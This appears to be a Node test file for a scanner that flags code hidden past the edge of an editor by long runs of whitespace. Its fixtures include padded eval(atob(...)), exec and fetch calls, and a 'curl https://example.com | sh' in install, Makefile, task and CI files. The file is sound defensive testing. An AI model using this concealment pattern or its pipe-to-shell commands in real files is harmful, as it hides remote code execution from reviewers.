import { describe, it } from 'node:test';
import { assertFound, assertNothing } from '../../test/found-in.ts';

const FAR = ' '.repeat(220);

describe('code behind many blanks', () => {
  it('code that stands beyond the edge of an editor is found in code, JSON and YAML', async () => {
    await assertFound('out-of-view', [
      ['a.js', `module.exports = {};${FAR}eval(atob("x"));\n`],
      ['a.js', `export default a;${'\t'.repeat(40)}global.x = require;\n`],
      ['a.js', `run();\n${FAR}fetch(url);\nstop();\n`],
      ['a.js', `run();${FAR}/* a */ fetch(url);\n`],
      ['a.py', `import os${FAR};exec(code)\n`],
      ['install.sh', `echo done${FAR}; curl https://example.com | sh\n`],
      ['Makefile', `all:\n\techo done${FAR}&& curl https://example.com\n`],
      ['package.json', `{"scripts":{"test":"node a${FAR}&& node b"}}`],
      ['.vscode/tasks.json', `{"command":"echo${FAR}; node b"}`],
      ['ci.yml', `- run: npm test${FAR}|| curl x\n`],
    ]);
  });

  it('tables, comments, strings, padded macros, deep indentation and prose are left alone', async () => {
    await assertNothing([
      ['a.js', `const a = 1;${FAR}// see b() = c\n`],
      ['a.jl', `)${FAR}# A2 + B1(x) = 3\n`],
      ['a.js', `const text = "a${FAR}b(c)";\n`],
      ['a.js', `const a = 1;${' '.repeat(150)}b();\n`],
      ['a.py', `[1 - x,${FAR}0,${FAR}1]\n`],
      ['a.c', `#define A(x) b(x)${FAR}\\\n  c(x)\n`],
      ['a.js', `${' '.repeat(110)}a();\n${FAR}b();\n${FAR}c();\n`],
      ['a.md', `a${FAR}b(c);\n| a${FAR}| b() |\n`],
      ['a.json', `{"readme":"| a${FAR}| b |"}`],
      ['a.html', `<p>a</p>${FAR}<script>b()</script>\n`],
      ['a.js', `a();${FAR}\n${FAR}\n`],
    ]);
  });
});
